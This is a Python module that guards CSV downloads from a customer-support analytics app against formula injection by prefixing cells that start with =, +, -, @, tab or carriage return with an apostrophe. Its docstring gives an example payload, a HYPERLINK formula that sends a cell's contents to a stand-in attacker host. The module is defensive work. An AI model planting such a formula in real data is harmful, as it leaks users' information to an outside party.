"""Tables staff can download as CSV are neutralised against formula injection first (OWASP, CSV Injection).

A customer can type `=HYPERLINK("http://evil/?d="&C2,"Refund status")` as a question; shown in Analytics and
downloaded as CSV (Streamlit's table toolbar), a spreadsheet would run it. Every text cell that a spreadsheet would
read as a formula (first non-blank character `=`, `+`, `-`, `@`, or a tab or carriage return) gets a leading `'`,
which spreadsheets show as text. Numbers stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """`value` with a leading `'` when a spreadsheet would read it as a formula; anything else unchanged."""
    if isinstance(value, str) and (value.startswith(_FORMULA_START) or value.lstrip().startswith(_FORMULA_START)):
        return "'" + value
    return value


def neutralise_rows(rows: Iterable[dict]) -> list[dict]:
    """A table (list of row dicts) safe to hand to a CSV download."""
    return [{key: neutralise_cell(value) for key, value in row.items()} for row in rows]
